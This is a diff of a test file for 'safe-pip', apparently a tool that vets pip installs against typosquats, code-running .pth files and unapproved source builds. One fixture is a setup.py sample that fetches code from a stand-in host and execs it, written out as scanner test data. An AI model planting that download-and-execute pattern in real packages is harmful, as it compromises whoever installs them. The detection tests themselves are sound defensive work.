@@ -22,15 +22,26 @@ async function run(argv: string[], setup: Partial<FakePipSetup> & Pick<FakePipSe
 const requests = { name: 'requests', version: '1.0.4' };
 
 describe('pip install flow: decision table × TTY (fake edges)', () => {
-  it('a clean package: resolved under the guard, fetched by hash, installed from the private folder only', async () => {
+  it('a clean package: pip\'s own install, held after its one resolve under the guard, let go with the sha256 of each wheel read', async () => {
     const { t, code } = await run(['install', 'requests'], { resolves: [requests] });
     expect(code).toBe(0);
-    expect(t.resolves()[0]).toEqual(expect.arrayContaining(['--dry-run', '--only-binary=:all:']));
+    expect(t.resolves()).toEqual([['install', 'requests', '--report', '/work/report-0.json']]);
+    expect(t.runs[0]!.hold).toBe(true);
+    expect(t.fetches()).toEqual([]);
+    expect(t.inspected).toEqual(['/work/wheels/requests-1.0.4-py3-none-any.whl']);
+    expect(t.released).toEqual([{ requests: 'b'.repeat(64) }]);
+    expect(t.installs()).toHaveLength(1);
+    expect(t.asked).toEqual([]);
+    expect(t.cleaned()).toBe(1);
+  });
+
+  it('when pip\'s downloads cannot be read (no kept copy), the held install is called off: fetched by hash, installed pinned from the private folder', async () => {
+    const { t, code } = await run(['install', 'requests'], { resolves: [requests], keptMissing: true });
+    expect(code).toBe(0);
+    expect(t.calledOff()).toBe(1);
     expect(t.fetches()).toHaveLength(1);
     expect(t.installs()).toEqual([expect.arrayContaining(['--no-index', '--find-links', '/work/wheels', '--require-hashes'])]);
     expect(t.files.get('/work/final-requirements.txt')).toBe(`requests==1.0.4 --hash=sha256:${'b'.repeat(64)}\n`);
-    expect(t.asked).toEqual([]);
-    expect(t.cleaned()).toBe(1);
   });
 
   it.each([
@@ -47,9 +58,23 @@ describe('pip install flow: decision table × TTY (fake edges)', () => {
     if (exit !== 0) expect(t.text()).toContain('safe-pip: nothing was installed');
   });
 
-  it('no TTY: the exact files are fetched while the facts are checked, but nothing is installed on a stop', async () => {
-    const { t, code } = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }] });
-    expect(code).toBe(65);
+  it('one resolution per run: the held install goes on only after the decision; on a stop it is called off with the session', async () => {
+    const ok = await run(['install', 'requests'], { resolves: [requests] });
+    expect(ok.t.resolves()).toHaveLength(1);
+    expect([ok.t.released.length, ok.t.installs().length]).toEqual([1, 1]);
+    const stopped = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }] });
+    expect(stopped.t.resolves()).toHaveLength(1);
+    expect([stopped.t.released.length, stopped.t.installs().length]).toEqual([0, 0]);
+    const dry = await run(['install', '--dry-run', 'requests'], { resolves: [requests] });
+    expect(dry.t.runs[0]!.hold).toBeFalsy();
+    // Nothing beyond the pages pip read: a previous release's dependencies only with a takeover signal.
+    expect(ok.t.releaseRequiresAsked()).toBe(0);
+  });
+
+  it('no TTY, a vetted build: the exact files are fetched (built) while the facts are checked, but nothing is installed on a stop', async () => {
+    const t = await fakePipDeps({ projects, resolves: [{ name: 'reqeusts', version: '1.0.4' }], builds: [{ name: 'reqeusts', url: null, editable: false, kind: 'index', version: '1.0.4' }] });
+    t.store.recordScriptDecision('pypi', { key: 'reqeusts', decision: 'allow' } as never);
+    expect(await pipInstallFlow(pipArgv(['install', 'reqeusts']).first, ['install', 'reqeusts'], t.deps)).toBe(65);
     expect(t.fetches()).toHaveLength(1);
     expect(t.installs()).toEqual([]);
   });
@@ -121,14 +146,14 @@ describe('pip install flow: builds', () => {
     expect(code).toBe(67);
   });
 
-  it('pre-approved: resolved again with the build allowed and built from source (--no-binary)', async () => {
+  it('pre-approved: resolved again with the build allowed (pip chooses the sdist itself, as without safe-pip)', async () => {
     const t = await fakePipDeps(built);
     t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
     const { first } = pipArgv(['install', 'srcdep']);
     expect(await pipInstallFlow(first, ['install', 'srcdep'], t.deps)).toBe(0);
-    expect(t.runs.filter((r) => r.pipArgs.includes('--dry-run')).map((r) => r.allow)).toEqual([[], ['srcdep']]);
-    expect(t.resolves()[1]).toContain('--no-binary=srcdep');
-    expect(t.fetches()[0]).toContain('--no-binary=srcdep');
+    expect(t.runs.filter((r) => r.pipArgs.includes('--report')).map((r) => r.allow)).toEqual([[], ['srcdep']]);
+    expect(t.resolves()[1]).not.toContain('--only-binary=:all:');
+    expect(t.fetches()[0]!.at(-1)).toBe('--only-binary=:all:');
     expect(t.text()).toContain('building srcdep==1.0.4 (pre-approved');
   });
 
@@ -145,17 +170,17 @@ describe('pip install flow: builds', () => {
     expect(t.confirmed).toEqual(['Build srcdep==1.0.4 now, running its code as you?']);
   });
 
-  it('a project with only source releases needs a build too (pip fails under --only-binary)', async () => {
-    const { t, code } = await run(['install', 'srconly'], { resolves: [], resolveFails: 1, side: { sourceOnly: { srconly: ['0.9', '1.0'] }, candidates: {} } });
-    expect(code).toBe(67);
-    expect(t.text()).toContain('srconly==1.0 needs a build');
+  it('under the user\'s own --only-binary :all:, a project with only source releases fails as in pip (no build asked for)', async () => {
+    const { t, code } = await run(['install', '--only-binary', ':all:', 'srconly'], { resolves: [], resolveFails: 1, side: { sourceOnly: { srconly: ['0.9', '1.0'] }, candidates: {} } });
+    expect(code).toBe(1);
+    expect(t.resolves()[0]).toContain('--only-binary=:all:');
+    expect(t.text()).not.toContain('needs a build');
   });
 
-  it('pip failing for its own reasons: its output and exit code, nothing installed', async () => {
+  it('pip failing for its own reasons: its output and exit code, nothing installed (no "could not resolve" after a plain error)', async () => {
     const { t, code } = await run(['install', 'requests==99'], { resolves: [], resolveFails: 1 });
     expect(code).toBe(1);
-    expect(t.text()).toContain('ERROR: pip says no');
-    expect(t.text()).toContain('pip could not resolve the request');
+    expect(t.text()).toBe('ERROR: pip says no\nsafe-pip: pip stopped (exit 1); nothing was installed\n');
   });
 
   it('a dependency declaring `name @ URL` in its metadata is refused (65) unless that URL is approved', async () => {
@@ -201,36 +226,35 @@ describe('pip install flow: sources, inspection and commands', () => {
     expect(t.text()).toMatch(/acme: block: .*99\.0/);
   });
 
-  it('find-links only: no index facts; a local file is a warn (66 without a TTY, accepted by --safe-yes)', async () => {
+  it('find-links only: no index facts, but it exists (pip found it in a source the user configured): installed', async () => {
     const setup = { resolves: [{ name: 'local', version: '1.0' }], side: { indexUrls: [], findLinks: ['/wheels'], candidates: {} } };
     const plain = await run(['install', 'local'], setup);
-    expect(plain.code).toBe(66);
-    expect(plain.t.text()).toMatch(/local: warn: .*local archive/);
-    expect((await run(['install', 'local', '--safe-yes'], setup)).code).toBe(0);
+    expect(plain.code).toBe(0);
+    expect(plain.t.installs()).toHaveLength(1);
   });
 
-  it('a wheel whose .pth runs code is caught after the fetch, before the install (65)', async () => {
+  it('a wheel whose .pth runs code is caught when the wheels are read, before the install (65)', async () => {
     const { t, code } = await run(['install', 'requests'], {
       resolves: [requests],
       wheelFindings: { requests: [{ check: 'wheel-contents', severity: 'block', message: 'requests installs evil.pth, which runs code at every interpreter start' }] },
     });
     expect(code).toBe(65);
-    expect(t.fetches()).toHaveLength(1);
+    expect(t.inspected).toHaveLength(1);
     expect(t.installs()).toEqual([]);
   });
 
-  it('nothing to install: every requirement is already satisfied', async () => {
+  it('nothing to install: pip goes on and says what is already satisfied itself', async () => {
     const { t, code } = await run(['install', 'requests'], { resolves: [] });
     expect(code).toBe(0);
-    expect(t.text()).toContain('nothing to install');
+    expect(t.released).toEqual([{}]);
   });
 
-  it('--dry-run: pip\'s summary line and the report copied where the user asked; nothing fetched or installed', async () => {
+  it('--dry-run: the wheels are read as for an install, then pip\'s summary line and the report where the user asked; nothing installed', async () => {
     const { t, code } = await run(['install', '--dry-run', '--report', 'out.json', 'requests'], { resolves: [requests] });
     expect(code).toBe(0);
     expect(t.out()).toBe('Would install requests-1.0.4\n');
     expect(t.copies).toEqual([['/work/report-0.json', '/project/out.json']]);
-    expect(t.fetches()).toEqual([]);
+    expect(t.inspected).toHaveLength(1);
     expect(t.installs()).toEqual([]);
   });
 
@@ -275,8 +299,164 @@ describe('pip install flow: who runs pip', () => {
     expect(t.workspaces()).toBe(0);
   });
 
+  it('every refusal names the one thing that works (issue 10): a root-owned venv, a Python its owner cannot run, the system Python, --user', async () => {
+    const rootOwned = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0 });
+    expect((rootOwned.code as Blocked).message).toBe('safe-pip: the virtual environment /venv is owned by root (pip never runs as root under safe-pip): give it to a user: chown -R nobody: /venv');
+    const privatePython = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0, pythonRunnable: false, env: { SUDO_USER: 'alice' } });
+    expect((privatePython.code as Blocked).message).toContain('its Python (/venv/bin/python) cannot be run by other users, so make it again with one that can: rm -rf /venv && /usr/bin/python3 -m venv /venv && chown -R alice: /venv');
+    const ownerCannot = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 1234, pythonRunnable: false });
+    expect((ownerCannot.code as Blocked).message).toMatch(/pip would run as u1234 .* who cannot run \/venv\/bin\/python .*: make the environment again with a Python every user can run: rm -rf \/venv && \/usr\/bin\/python3 -m venv \/venv && chown -R u1234: \/venv$/);
+    expect(ownerCannot.t.workspaces()).toBe(0);
+    const user = await run(['install', '--user', 'requests'], { resolves: [requests], root: true });
+    expect((user.code as Blocked).message).toContain('/usr/bin/python3 -m venv .venv && chown -R nobody: .venv && . .venv/bin/activate');
+    for (const r of [rootOwned, privatePython, ownerCannot, user]) {
+      expect((r.code as Blocked).message).not.toContain('runAsUser');
+      expect((r.code as Blocked).message.split('\n')).toHaveLength(1);
+    }
+  });
+
   it('pip\'s own configuration moving the destination is could-not-verify', async () => {
     const { code } = await run(['install', 'requests'], { resolves: [requests], side: { options: { target_dir: '/elsewhere' } } });
     expect((code as Blocked).exitCode).toBe(68);
+  });
+});
+
+describe('pip install flow: the same result as pip (issue 10)', () => {
+  it('the user\'s format choices reach pip: --no-binary (also abbreviated) is kept, nothing of ours is added', async () => {
+    for (const argv of [['install', '--no-binary', ':all:', 'six'], ['install', '--no-bin', ':all:', 'six'], ['install', '--no-binary', 'six', 'six']]) {
+      const { t } = await run(argv, { resolves: [], resolveFails: 1 });
+      const resolve = t.resolves()[0]!;
+      expect(resolve).toContain(argv[2] === 'six' ? '--no-binary=six' : '--no-binary=:all:');
+      expect(resolve.filter((a) => a.startsWith('--only-binary'))).toEqual([]);
+    }
+    const { t } = await run(['download', '--no-binary', ':all:', '-d', 'out', 'requests'], { resolves: [requests] });
+    expect(t.runs.at(-1)!.pipArgs).toEqual(['download', '--no-binary=:all:', '--dest=out', 'requests']);
+  });
+
+  it('a dry run predicts the install: a wheel the install would block blocks the dry run too (65, no "Would install")', async () => {
+    const { t, code } = await run(['install', '--dry-run', 'requests'], {
+      resolves: [requests],
+      wheelFindings: { requests: [{ check: 'wheel-contents', severity: 'block', message: 'requests installs evil.pth, a .pth file that runs code' }] },
+    });
+    expect(code).toBe(65);
+    expect(t.out()).toBe('');
+    expect(t.installs()).toEqual([]);
+  });
+
+  it('--report - prints pip\'s JSON report on stdout; -q leaves out pip\'s summary line', async () => {
+    const loud = await run(['install', '--dry-run', '--report', '-', 'requests'], { resolves: [requests] });
+    const [json, summary] = loud.t.out().split(/\n(?=Would install)/);
+    expect(JSON.parse(json!).install[0].metadata).toMatchObject({ name: 'requests', version: '1.0.4' });
+    expect(summary).toBe('Would install requests-1.0.4\n');
+    const quiet = await run(['install', '-q', '--dry-run', '--report', '-', 'requests'], { resolves: [requests] });
+    expect(JSON.parse(quiet.t.out()).version).toBe('1');
+    expect(loud.t.copies).toEqual([]);
+  });
+
+  it('-q (or PIP_QUIET) quiets safe-pip\'s own informational lines; refusals are still said', async () => {
+    const built = { resolves: [{ name: 'srcdep', version: '1.0.4' }], builds: [{ name: 'srcdep', url: null, editable: false, kind: 'index', version: '1.0.4' }], projects: { srcdep: old } };
+    for (const [argv, env, says] of [
+      [['install', 'srcdep'], {}, true],
+      [['install', '-q', 'srcdep'], {}, false],
+      [['install', 'srcdep'], { PIP_QUIET: '1' }, false],
+    ] as const) {
+      const t = await fakePipDeps({ ...built, env });
+      t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
+      expect(await pipInstallFlow(pipArgv([...argv], env).first, [...argv], t.deps)).toBe(0);
+      expect(t.text().includes('building srcdep==1.0.4 (pre-approved'), argv.join(' ')).toBe(says);
+    }
+    const yes = await run(['install', '-q', 'fresh', '--safe-yes'], { resolves: [{ name: 'fresh', version: '1.0.2' }] });
+    expect(yes.code).toBe(0);
+    expect(yes.t.text()).toBe('');
+    const withheld = await run(['install', '-q', 'srcdep'], built);
+    expect(withheld.code).toBe(67);
+    expect(withheld.t.text()).toContain('safe-pip safe approve srcdep==1.0.4');
+  });
+
+  it('a requested name pip cannot resolve is checked: a typo blocks with its did-you-mean (65), said before pip\'s error', async () => {
+    const { t, code } = await run(['install', 'reqeusts'], { resolves: [], resolveFails: 1, projects: { reqeusts: 'not-found' }, side: { requested: ['reqeusts'] } });
+    expect(code).toBe(65);
+    const text = t.text();
+    expect(text).toMatch(/reqeusts: block: "reqeusts" does not exist: a free name one typo from the popular package "requests"/);
+    expect(text).toContain('did you mean "requests"? run: safe-pip install requests');
+    expect(text).not.toContain('safe trust');
+    expect(text.indexOf('did you mean "requests"')).toBeLessThan(text.indexOf('ERROR: pip says no'));
+    // A name that is only missing stays pip's own error and exit code.
+    const missing = await run(['install', 'nosuchthing'], { resolves: [], resolveFails: 1, side: { requested: ['nosuchthing'] } });
+    expect(missing.code).toBe(1);
+  });
+
+  it('at a terminal, an unresolvable typo offers the replacement and runs again with it', async () => {
+    const { t } = await run(['install', 'reqeusts'], { resolves: [], resolveFails: 1, projects: { reqeusts: 'not-found' }, side: { requested: ['reqeusts'] }, interactive: true, answers: ['substitute', 'abort'] });
+    expect(t.text()).toContain('safe-pip: running again as: pip install requests');
+  });
+
+  it('"always trust" at the prompt saves the normalised project name, not the line shown for a dependency', async () => {
+    const { t, code } = await run(['install', 'requests'], {
+      resolves: [requests, { name: 'Fresh_Pkg', version: '1.0.2', requested: false }],
+      projects: { ...projects, Fresh_Pkg: { ageDays: [3, 2, 1] } },
+      side: { edges: { requests: ['fresh-pkg'], 'fresh-pkg': [] } },
+      interactive: true, answers: ['install-and-trust'],
+    });
+    expect(code).toBe(0);
+    expect(t.asked).toEqual(['Fresh_Pkg==1.0.2 (via requests > Fresh_Pkg)']);
+    expect(t.store.isTrusted('pypi', 'fresh-pkg')).toBe(true);
+    expect(t.store.isTrusted('pypi', 'Fresh_Pkg==1.0.2 (via requests > Fresh_Pkg)')).toBe(false);
+  });
+
+  it('a flagged dependency is asked about with only what can be done (accept or abort: no skip, no replacement)', async () => {
+    const { t } = await run(['install', 'requests'], { resolves: [requests, { name: 'reqeusts', version: '1.0.4', requested: false }], interactive: true, answers: ['abort'] });
+    expect(t.questions).toHaveLength(1);
+    expect(t.questions[0]).toMatchObject({ transitive: true });
+    const direct = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['abort'] });
+    expect(direct.t.questions).toHaveLength(1);
+    expect(direct.t.questions[0]?.transitive).toBeFalsy();
+  });
+});
+
+describe('pip install flow: the content of a build is read before it runs', () => {
+  const evil = { 'setup.py': 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("http://x.invalid/p").read())\nsetup(name="srcdep")\n' };
+  const meh = { 'setup.py': 'from setuptools import setup\nimport subprocess\nsubprocess.call(["make"])\nsetup(name="srcdep")\n' };
+  const refusal = (files: Record<string, string>, digest = 'd1') => ({ name: 'srcdep', url: null, editable: false, kind: 'index', version: '1.0.4', files, digest });
+  const setupFor = (files: Record<string, string>, extra: Partial<FakePipSetup> = {}) => ({ resolves: [{ name: 'srcdep', version: '1.0.4' }], builds: [refusal(files)], projects: { srcdep: old }, ...extra });
+
+  it('a high-confidence finding blocks a pre-approved build (65), with file and line and the approval of exactly this content', async () => {
+    const t = await fakePipDeps(setupFor(evil));
+    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
+    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(65);
+    expect(t.text()).toContain('blocked: the build of srcdep==1.0.4 (pre-approved) would run code the content scan flags');
+    expect(t.text()).toMatch(/ {2}! setup\.py:3: .*\[download-execute\]/);
+    expect(t.text()).toContain('safe-pip safe approve srcdep==1.0.4 --content d1');
+    expect(t.resolves()).toHaveLength(1);
+  });
+
+  it('an approval of exactly this content lets it build; the guard is told to build only that content', async () => {
+    const t = await fakePipDeps(setupFor(evil));
+    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow', scriptsDigest: 'd1' } as never);
+    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(0);
+    expect(t.runs.filter((r) => r.pipArgs.includes('--report')).at(-1)!.digests).toEqual({ srcdep: 'd1' });
+  });
+
+  it('an approval of other content counts as none: withheld without a terminal (67)', async () => {
+    const t = await fakePipDeps(setupFor(meh));
+    t.store.recordScriptDecision('pypi', { key: 'srcdep', decision: 'allow', scriptsDigest: 'older' } as never);
+    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(67);
+    expect(t.text()).toContain('its source is not the content you approved');
+  });
+
+  it('medium findings are shown at the build prompt with file and line', async () => {
+    const { t, code } = await run(['install', 'srcdep'], { ...setupFor(meh), interactive: true, confirms: [true] });
+    expect(code).toBe(0);
+    const text = t.text();
+    expect(text).toMatch(/ {2}! setup\.py:3: runs a command when setup\.py is imported \[setup-py-commands\]/);
+    expect(text.indexOf('setup.py:3')).toBeLessThan(text.length);
+    expect(t.confirmed).toHaveLength(1);
+  });
+
+  it('content that changes between two reads in one run is blocked (65)', async () => {
+    const t = await fakePipDeps(setupFor(meh, { rebuildDigest: 'd2' }));
+    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
+    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(65);
+    expect(t.text()).toContain('changed after it was read and vetted in this run');
   });
 });
